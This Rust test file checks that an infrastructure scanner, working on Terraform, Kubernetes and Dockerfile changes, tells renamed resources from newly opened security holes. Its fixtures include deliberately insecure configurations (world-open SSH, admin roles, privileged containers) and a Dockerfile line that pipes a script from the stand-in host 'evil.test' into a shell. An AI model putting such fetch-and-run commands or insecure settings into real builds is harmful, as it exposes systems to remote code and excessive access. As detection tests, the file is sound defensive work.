//! The same hole in something else is another hole, and the same thing under another name or in another form is the same.
#![allow(clippy::unwrap_used)]

mod support;

use support::change::{Change, Judged};
use support::run::scanned;

/// Files of a tree.
type Files<'a> = &'a [(&'a str, &'a str)];

/// A change from these files to those; a file that the head does not name is gone.
fn change(base: Files<'_>, head: Files<'_>) -> Judged {
    let mut change = Change::from(base);
    for (path, _) in base {
        change = change.remove(path);
    }
    for (path, text) in head {
        change = change.write(path, text);
    }
    change.judged(&[])
}

fn assert_closed(what: &str, base: Files<'_>, head: Files<'_>) {
    let judged = change(base, head);
    assert_eq!(judged.code, 1, "{what}");
    assert!(!judged.of("new").is_empty() || !judged.of("worse").is_empty(), "{what}");
}

/// The same with a piece of one file replaced.
fn assert_piece_closes(text: &str, path: &str, from: &str, to: &str) {
    let changed = text.replace(from, to);
    assert_ne!(text, changed, "{from}");
    assert_closed(&format!("{from} to {to}"), &[(path, text)], &[(path, &changed)]);
}

fn assert_same(what: &str, base: Files<'_>, head: Files<'_>) {
    change(base, head).assert_unchanged(what);
}

const SITE: &str = r#"resource "aws_s3_bucket" "site" {
  bucket = "acme-site"
}

resource "aws_s3_bucket" "backups" {
  bucket = "acme-backups"
}

resource "aws_s3_bucket_policy" "site" {
  bucket = aws_s3_bucket.site.id
  policy = jsonencode({
    Version   = "2012-10-17"
    Statement = [{ Effect = "Allow", Principal = "*", Action = "s3:GetObject", Resource = "${aws_s3_bucket.site.arn}/public/*" }]
  })
}
"#;

const SITE_TEXT: &str = r#"resource "aws_s3_bucket" "site" {
  bucket = "acme-site"
}

resource "aws_s3_bucket" "backups" {
  bucket = "acme-backups"
}

resource "aws_s3_bucket_policy" "site" {
  bucket = aws_s3_bucket.site.id
  policy = <<-JSON
    {"Version": "2012-10-17", "Statement": [
      {"Effect": "Allow", "Principal": "*", "Action": "s3:GetObject", "Resource": "${aws_s3_bucket.site.arn}/public/*"}
    ]}
  JSON
}
"#;

#[test]
fn what_an_unknown_value_refers_to_tells_it_from_another() {
    for text in [SITE, SITE_TEXT] {
        assert_piece_closes(text, "main.tf", "s3:GetObject", "s3:PutObject");
        assert_piece_closes(text, "main.tf", "/public/*", "/*");
        assert_piece_closes(text, "main.tf", "${aws_s3_bucket.site.arn}", "${aws_s3_bucket.backups.arn}");
        assert_piece_closes(text, "main.tf", "= aws_s3_bucket.site.id", "= aws_s3_bucket.backups.id");
        let renamed = text.replace("\"site\"", "\"web\"").replace("bucket.site", "bucket.web");
        assert_same("another name", &[("main.tf", text)], &[("main.tf", &renamed)]);
    }
    assert_same("a text for a structure", &[("main.tf", SITE)], &[("main.tf", SITE_TEXT)]);
    assert_same("a structure for a text", &[("main.tf", SITE_TEXT)], &[("main.tf", SITE)]);
}

const GROUPS: &str = r#"resource "aws_security_group" "bastion" {
  name = "bastion"
}

resource "aws_security_group" "db" {
  name = "db"
}

resource "aws_security_group_rule" "ssh" {
  type              = "ingress"
  description       = "staff"
  from_port         = 22
  to_port           = 22
  protocol          = "tcp"
  cidr_blocks       = ["0.0.0.0/0"]
  security_group_id = aws_security_group.bastion.id
}
"#;

#[test]
fn a_rule_of_another_group_and_a_policy_of_another_role_are_others() {
    assert_piece_closes(GROUPS, "main.tf", "bastion.id", "db.id");
    let other = GROUPS.replace("\"ssh\"", "\"shell\"").replace("bastion.id", "db.id");
    assert_closed("one for another", &[("main.tf", GROUPS)], &[("main.tf", &other)]);
    let admin = "resource \"aws_iam_role\" \"ci\" {\n  name = \"ci\"\n}\n\nresource \"aws_iam_role\" \"web\" {\n  name = \"web\"\n}\n\n\
                 resource \"aws_iam_role_policy_attachment\" \"admin\" {\n  role       = aws_iam_role.ci.name\n  \
                 policy_arn = \"arn:aws:iam::aws:policy/AdministratorAccess\"\n}\n";
    assert_piece_closes(admin, "main.tf", "aws_iam_role.ci.name", "aws_iam_role.web.name");
    let renamed = admin.replace("\"ci\" {", "\"pipeline\" {").replace("role.ci", "role.pipeline");
    assert_same("a role under another name", &[("main.tf", admin)], &[("main.tf", &renamed)]);
}

/// A group whose blocks are made for each port, with the ports as a list.
fn dynamic(ports: &str) -> String {
    format!(
        "resource \"aws_security_group\" \"a\" {{\n  description = \"a\"\n  dynamic \"ingress\" {{\n    for_each = [{ports}]\n    \
         content {{\n      description = \"w\"\n      from_port   = ingress.value\n      to_port     = ingress.value\n      \
         protocol    = \"tcp\"\n      cidr_blocks = [\"0.0.0.0/0\"]\n    }}\n  }}\n}}\n"
    )
}

#[test]
fn blocks_that_one_text_makes_are_told_apart() {
    let of = |ports: &str| dynamic(ports);
    assert_closed("another port", &[("m.tf", &of("22, 3306"))], &[("m.tf", &of("22, 5432"))]);
    assert_same("another order", &[("m.tf", &of("22, 3306"))], &[("m.tf", &of("3306, 22"))]);
    let block = |port: &str| {
        format!(
            "  ingress {{\n    description = \"w\"\n    from_port   = {port}\n    to_port     = {port}\n    protocol    = \"tcp\"\n    \
             cidr_blocks = [\"0.0.0.0/0\"]\n  }}\n"
        )
    };
    let blocks = format!(
        "resource \"aws_security_group\" \"a\" {{\n  description = \"a\"\n{}{}}}\n",
        block("22"),
        block("3306")
    );
    assert_same("blocks for each", &[("m.tf", &blocks)], &[("m.tf", &of("22, 3306"))]);
    let local = format!("locals {{\n  any = [\"0.0.0.0/0\"]\n}}\n\n{}", blocks.replace("[\"0.0.0.0/0\"]", "local.any"));
    assert_same("one local for both", &[("m.tf", &blocks)], &[("m.tf", &local)]);
    assert_closed("another port", &[("m.tf", &local)], &[("m.tf", &local.replace("3306", "5432"))]);
}

fn deployment(name: &str, privileged: bool) -> String {
    format!(
        "apiVersion: apps/v1\nkind: Deployment\nmetadata:\n  name: {name}\n  namespace: shop\nspec:\n  selector:\n    matchLabels:\n      \
         app: {name}\n  template:\n    metadata:\n      labels:\n        app: {name}\n    spec:\n      serviceAccountName: {name}\n      \
         containers:\n        - name: {name}\n          image: registry.acme.test/shop:1.2.3\n          envFrom:\n            - \
         configMapRef:\n                name: {name}\n          securityContext:\n            privileged: {privileged}\n"
    )
}

#[test]
fn an_object_of_another_environment_is_another() {
    let (bad, good) = (deployment("web", true), deployment("web", false));
    assert_closed(
        "dev is mended",
        &[("dev/d.yaml", &bad), ("prod/d.yaml", &good)],
        &[("dev/d.yaml", &good), ("prod/d.yaml", &bad)],
    );
    assert_closed("dev is gone", &[("dev/d.yaml", &bad), ("prod/d.yaml", &good)], &[("prod/d.yaml", &bad)]);
    assert_same("moved", &[("dev/d.yaml", &bad)], &[("prod/d.yaml", &bad)]);
}

#[test]
fn an_object_is_renamed_with_all_that_is_called_after_it() {
    let account =
        |name: &str| format!("apiVersion: v1\nkind: ServiceAccount\nmetadata:\n  name: {name}\n  namespace: shop\n");
    let all = |name: &str| format!("{}---\n{}", deployment(name, true), account(name));
    assert_same("another name", &[("d.yaml", &all("web"))], &[("d.yaml", &all("site"))]);
    let space = |name: &str| format!("apiVersion: v1\nkind: Namespace\nmetadata:\n  name: {name}\n");
    assert_same("a namespace", &[("n.yaml", &space("shop"))], &[("n.yaml", &space("store"))]);
}

#[test]
fn nothing_moves_onto_what_was_there() {
    let group = |name: &str, from: &str| {
        format!(
            "resource \"aws_security_group\" \"{name}\" {{\n  description = \"{name}\"\n  ingress {{\n    description = \"w\"\n    \
             from_port   = 22\n    to_port     = 22\n    protocol    = \"tcp\"\n    cidr_blocks = [\"{from}\"]\n  }}\n}}\n"
        )
    };
    let base = format!("{}\n{}", group("a", "0.0.0.0/0"), group("b", "10.0.0.0/8"));
    let moved = "moved {\n  from = aws_security_group.a\n  to   = aws_security_group.b\n}\n";
    let head = format!("{}\n{moved}", group("b", "0.0.0.0/0"));
    assert_closed("a is gone, b opened", &[("m.tf", &base)], &[("m.tf", &head)]);
    assert_same("a became b", &[("m.tf", &group("a", "0.0.0.0/0"))], &[("m.tf", &head)]);
}

const BINDING: &str = "apiVersion: rbac.authorization.k8s.io/v1
kind: ClusterRoleBinding
metadata:
  name: admins
roleRef:
  apiGroup: rbac.authorization.k8s.io
  kind: ClusterRole
  name: cluster-admin
subjects:
  - kind: Group
    apiGroup: rbac.authorization.k8s.io
    name: acme:platform
";

#[test]
fn whom_a_binding_names_is_part_of_it() {
    assert_piece_closes(BINDING, "b.yaml", "acme:platform", "acme:everyone");
    let more =
        format!("{BINDING}  - kind: Group\n    apiGroup: rbac.authorization.k8s.io\n    name: acme:contractors\n");
    assert_closed("one more", &[("b.yaml", BINDING)], &[("b.yaml", &more)]);
    assert_same(
        "another name of its own",
        &[("b.yaml", BINDING)],
        &[("b.yaml", &BINDING.replace("admins", "platform"))],
    );
}

#[test]
fn a_service_may_not_lead_to_more() {
    let service = "apiVersion: v1\nkind: Service\nmetadata:\n  name: web\n  namespace: shop\nspec:\n  type: LoadBalancer\n  selector:\n    \
                   app: web\n  ports:\n    - name: https\n      port: 443\n";
    let web = deployment("web", true);
    let base = format!("{service}---\n{web}");
    assert_closed(
        "a port",
        &[("s.yaml", &base)],
        &[("s.yaml", &base.replace("port: 443\n", "port: 443\n    - name: db\n      port: 5432\n"))],
    );
    let other = format!("{}---\n{web}", service.replace("app: web", "app: db"));
    assert_closed("other pods", &[("s.yaml", &base)], &[("s.yaml", &other)]);
    let renamed = format!("{}---\n{}", service.replace("app: web", "app: site"), deployment("site", true));
    assert_same("the same pods", &[("s.yaml", &base)], &[("s.yaml", &renamed)]);
}

#[test]
fn a_script_may_not_come_from_elsewhere() {
    let image = |run: &str| format!("FROM debian:12.7-slim\nARG BASE=https://get.acme.test\nRUN {run}\nUSER 1000\n");
    let of = |from: &str, to: &str| assert_closed(to, &[("Dockerfile", &image(from))], &[("Dockerfile", &image(to))]);
    of("curl get.acme.test/x | sh", "curl evil.test/x | sh");
    of("pip install --trusted-host get.acme.test tool==1.0", "pip install --trusted-host evil.test tool==1.0");
    let base = image("curl $BASE/x | sh");
    assert_closed("by an argument", &[("Dockerfile", &base)], &[("Dockerfile", &base.replace("get.acme", "evil"))]);
    assert_same("another version", &[("Dockerfile", &base)], &[("Dockerfile", &base.replace("/x", "/y"))]);
    let apart = "FROM debian:12.7-slim\nRUN curl -fsSLo /x https://get.acme.test/x\nRUN sudo ls\nUSER 1000\n";
    let joined = "FROM debian:12.7-slim\nRUN curl -fsSLo /x https://get.acme.test/x && sudo ls\nUSER 1000\n";
    assert_same("joined", &[("Dockerfile", apart)], &[("Dockerfile", joined)]);
}

const MODULE: &str = r#"variable "description" {
  type = string
}

resource "aws_security_group" "this" {
  description = var.description
  ingress {
    description = "w"
    from_port   = 22
    to_port     = 22
    protocol    = "tcp"
    cidr_blocks = ["0.0.0.0/0"]
  }
}
"#;

#[test]
fn one_of_its_name_in_another_module_is_another() {
    let call = |name: &str, what: &str| {
        format!("module \"{name}\" {{\n  source      = \"./group\"\n  description = \"{what}\"\n}}\n")
    };
    let group = ("group/main.tf", MODULE);
    assert_closed("another", &[("m.tf", &call("bastion", "staff")), group], &[("m.tf", &call("db", "data")), group]);
    assert_same("renamed", &[("m.tf", &call("bastion", "staff")), group], &[("m.tf", &call("jump", "staff")), group]);
}

#[test]
fn a_label_is_no_value_of_terraform() {
    let bucket = "resource \"aws_s3_bucket\" \"logs\" {\n  bucket = \"logs\"\n}\n";
    assert_same("another label", &[("m.tf", bucket)], &[("m.tf", &bucket.replace("\"logs\" {", "\"archive\" {"))]);
    assert_same("another name", &[("m.tf", bucket)], &[("m.tf", &bucket.replace("= \"logs\"", "= \"acme-logs\""))]);
    let vpc = "resource \"aws_vpc\" \"main\" {\n  cidr_block = \"10.0.0.0/16\"\n}\n";
    assert_same("what is missing is missing still", &[("m.tf", vpc)], &[("m.tf", &vpc.replace("10.0", "10.8"))]);
}

/// What the base has to read is not hidden behind a link, or under a name that is no text.
#[cfg(unix)]
#[test]
fn a_change_hides_nothing_behind_a_link_or_a_name() {
    use std::os::unix::ffi::OsStrExt as _;

    let (bad, good) = (deployment("web", true), deployment("web", false));
    let change = Change::from(&[("k/d.yaml", &good), ("s/d.yaml", "a: 1\n")]).write("s/d.yaml", &bad);
    std::fs::remove_file(change.path().join("k/d.yaml")).unwrap();
    std::os::unix::fs::symlink("../s/d.yaml", change.path().join("k/d.yaml")).unwrap();
    change.commit();
    assert_eq!(scanned(change.path(), &["k", "--base", "main"]).0, 2);
    let change = Change::from(&[("m.tf", "locals {}\n"), ("Dockerfile", "FROM scratch\n")]);
    for name in [&b"a\xff.tf"[..], b"Dockerfile.\xff"] {
        let path = change.path().join(std::ffi::OsStr::from_bytes(name));
        std::fs::write(&path, "").unwrap();
        assert_eq!(scanned(change.path(), &["."]).0, 2);
        std::fs::remove_file(path).unwrap();
    }
}

const TASK: &str =
    "resource \"aws_ecs_task_definition\" \"web\" {\n  family = \"web\"\n  container_definitions = ?\n}\n";

/// Containers of a task by their names, with whether they are privileged and may write their root.
fn definitions(containers: &[(&str, bool, bool)]) -> String {
    let one = |(name, is_privileged, is_writable): &(&str, bool, bool)| {
        let root = if *is_writable { "" } else { ", \"readonlyRootFilesystem\": true" };
        format!(
            "  {{\"name\": \"{name}\", \"image\": \"acme.test/{name}:1.2.3\", \"user\": \"1000\", \"logConfiguration\": {{\"logDriver\": \"awslogs\"}}, \"privileged\": \
             {is_privileged}{root}}}"
        )
    };
    let containers: Vec<String> = containers.iter().map(one).collect();
    format!("[\n{}\n]\n", containers.join(",\n"))
}

/// Files with a document of a task or a policy, in every form that a text of Terraform may have.
fn forms(text: &str, document: &str) -> Vec<[(&'static str, String); 2]> {
    let main = |value: &str| ("main.tf", text.replace('?', value));
    let none = || ("none.txt", String::new());
    vec![
        [main("file(\"${path.module}/d.json\")"), ("d.json", document.into())],
        [main("templatefile(\"${path.module}/d.tpl\", { a = 1 })"), ("d.tpl", document.into())],
        [main(&format!("<<EOF\n{document}EOF\n")), none()],
        [main(&format!("<<EOF\n{}\nEOF\n", document.replace('\n', " "))), none()],
        [main(&format!("jsonencode({})", document.trim())), none()],
        [main(&format!("jsonencode(jsondecode({:?}))", document.replace('\n', " "))), none()],
    ]
}

#[test]
fn a_hole_of_another_container_of_one_text_is_another() {
    let before = definitions(&[("app", true, false), ("side", false, true)]);
    let swapped = definitions(&[("app", false, true), ("side", true, false)]);
    let privileged = definitions(&[("app", false, false), ("side", true, true)]);
    let writable = definitions(&[("app", true, true), ("side", false, false)]);
    let more = definitions(&[("log", false, false), ("app", true, false), ("side", false, true)]);
    for after in [&swapped, &privileged, &writable] {
        for (from, to) in forms(TASK, &before).iter().zip(forms(TASK, after)) {
            assert_closed(after, &plain(from), &plain(&to));
        }
    }
    let same = forms(TASK, &before);
    for (from, to) in same.iter().zip(same.iter().cycle().skip(1)).chain(same.iter().zip(&forms(TASK, &more))) {
        assert_same(&format!("{from:?} to {to:?}"), &plain(from), &plain(to));
        assert_same(&format!("{to:?} to {from:?}"), &plain(to), &plain(from));
    }
}

fn plain<'a>(files: &'a [(&'static str, String); 2]) -> Vec<(&'a str, &'a str)> {
    files.iter().map(|(path, text)| (*path, text.as_str())).collect()
}

/// What differs in nothing but the name is no rename where both names stay.
#[test]
fn a_hole_does_not_move_to_a_container_that_was_there() {
    let task = |containers: &[(&str, bool, bool)]| {
        definitions(containers).replace("acme.test/app", "acme.test/web").replace("acme.test/side", "acme.test/web")
    };
    let (before, after) =
        (task(&[("app", true, false), ("side", false, false)]), task(&[("app", false, false), ("side", true, false)]));
    for (from, to) in forms(TASK, &before).iter().zip(forms(TASK, &after)) {
        assert_closed(&after, &plain(from), &plain(&to));
    }
    let renamed = task(&[("app", true, false), ("side", false, false)]).replace("\"app\"", "\"shop\"");
    for (from, to) in forms(TASK, &before).iter().zip(forms(TASK, &renamed)) {
        assert_same("another name", &plain(from), &plain(&to));
    }
}

#[test]
fn containers_that_one_expression_makes_are_told_apart() {
    let made = "jsonencode([for name in [\"app\", \"side\"] : { name = name, image = \"acme.test/${name}:1.2.3\", user = \
                \"1000\", privileged = name == local.bad }])";
    let text = format!("locals {{\n  bad = \"app\"\n}}\n\n{}", TASK.replace('?', made));
    assert_piece_closes(&text, "main.tf", "bad = \"app\"", "bad = \"side\"");
}

const POLICY: &str = "resource \"aws_iam_policy\" \"ci\" {\n  name   = \"ci\"\n  policy = ?\n}\n";

fn policy(actions: &[&str]) -> String {
    let one = |action: &&str| format!("    {{\"Effect\": \"Allow\", \"Action\": \"{action}\", \"Resource\": \"*\"}}");
    let statements: Vec<String> = actions.iter().map(one).collect();
    format!("{{\n  \"Version\": \"2012-10-17\",\n  \"Statement\": [\n{}\n  ]\n}}\n", statements.join(",\n"))
}

#[test]
fn a_statement_beside_others_of_one_text_is_none_of_theirs() {
    let before = policy(&["s3:*", "dynamodb:*"]);
    let harmless = policy(&["ec2:DescribeInstances", "s3:*", "dynamodb:*"]);
    let open = policy(&["s3:*", "dynamodb:*", "iam:*"]);
    let other = policy(&["s3:*", "iam:*"]);
    for (at, from) in forms(POLICY, &before).iter().enumerate() {
        assert_same("a harmless statement", &plain(from), &plain(&forms(POLICY, &harmless)[at]));
        assert_closed("one that opens more", &plain(from), &plain(&forms(POLICY, &open)[at]));
        assert_closed("one that opens something else", &plain(from), &plain(&forms(POLICY, &other)[at]));
        assert_same("another form", &plain(from), &plain(&forms(POLICY, &before)[(at + 1) % 6]));
        assert_same("the form that it had", &plain(&forms(POLICY, &before)[(at + 1) % 6]), &plain(from));
    }
}

/// What reads alike is told once.
#[test]
fn a_second_statement_that_reads_like_the_first_is_another() {
    let role = "resource \"aws_iam_role\" \"ci\" {\n  name = \"ci\"\n  assume_role_policy = ?\n}\n";
    let one = "    {\"Effect\": \"Allow\", \"Principal\": {\"AWS\": \"*\"}, \"Action\": \"sts:AssumeRole\"}";
    let document = |statements: &str| format!("{{\n  \"Statement\": [\n{statements}\n  ]\n}}\n");
    let (before, after) = (document(one), document(&format!("{one},\n{}", one.replace("AssumeRole", "TagSession"))));
    for (from, to) in forms(role, &before).iter().zip(forms(role, &after)) {
        assert_same("the same", &plain(from), &plain(from));
        assert_closed(&to[0].1, &plain(from), &plain(&to));
    }
}

const REPEATED: &str = r#"resource "aws_lb_listener" "web" {
  load_balancer_arn = "arn:aws:elasticloadbalancing:eu-west-1:1:loadbalancer/app/web/1"
  port              = 443
  protocol          = "HTTPS"
  ssl_policy        = "ELBSecurityPolicy-2016-08"
}
"#;

#[test]
fn what_moves_to_an_instance_of_itself_goes_on_there() {
    for (repeated, to) in [("count = 1", "web[0]"), ("for_each = toset([\"a\"])", "web[\"a\"]")] {
        let moved = format!("moved {{\n  from = aws_lb_listener.web\n  to   = aws_lb_listener.{to}\n}}\n");
        let now = REPEATED
            .replace("\"web\" {\n", &format!("\"web\" {{\n  {repeated}\n"))
            .replace("2016-08", "TLS-1-0-2015-04");
        let now = format!("{now}{moved}");
        assert_same(to, &[("main.tf", REPEATED)], &[("main.tf", &now)]);
        let open = now.replace("\"HTTPS\"", "\"HTTP\"");
        assert_closed(to, &[("main.tf", REPEATED)], &[("main.tf", &open)]);
    }
}

#[test]
fn a_role_is_renamed_with_its_binding() {
    let role = |name: &str, verbs: &str| {
        format!(
            "apiVersion: rbac.authorization.k8s.io/v1\nkind: ClusterRole\nmetadata:\n  name: {name}\nrules:\n- apiGroups: ['']\n  \
             resources: [secrets]\n  verbs: [{verbs}]\n"
        )
    };
    let binding = |role: &str| {
        format!(
            "apiVersion: rbac.authorization.k8s.io/v1\nkind: ClusterRoleBinding\nmetadata:\n  name: shop\nroleRef:\n  apiGroup: \
             rbac.authorization.k8s.io\n  kind: ClusterRole\n  name: {role}\nsubjects:\n- kind: ServiceAccount\n  name: \
             default\n  namespace: shop\n"
        )
    };
    let (was, bound) = (role("ops", "get"), binding("ops"));
    let base = [("role.yaml", was.as_str()), ("binding.yaml", bound.as_str())];
    let (now, bound) = (role("operators", "get"), binding("operators"));
    assert_same("another name", &base, &[("role.yaml", &now), ("binding.yaml", &bound)]);
    let more = role("operators", "get, delete");
    assert_closed("another name and more", &base, &[("role.yaml", &more), ("binding.yaml", &bound)]);
    let admin = binding("cluster-admin");
    assert_closed("another role", &base, &[("role.yaml", &was), ("binding.yaml", &admin)]);
}

#[test]
fn a_service_may_be_called_as_its_pods_are() {
    let pods = deployment("web", true);
    let service = |name: &str| {
        format!(
            "apiVersion: v1\nkind: Service\nmetadata:\n  name: {name}\n  namespace: shop\nspec:\n  type: LoadBalancer\n  \
             selector: {{app: web}}\n  ports: [{{port: 80}}]\n"
        )
    };
    for names in [["front", "web"], ["web", "front"], ["front", "frontend"]] {
        let [from, to] = names.map(service);
        let (from, to) =
            ([("pods.yaml", &*pods), ("service.yaml", &from)], [("pods.yaml", &*pods), ("service.yaml", &to)]);
        assert_same(&format!("{names:?}"), &from, &to);
    }
}
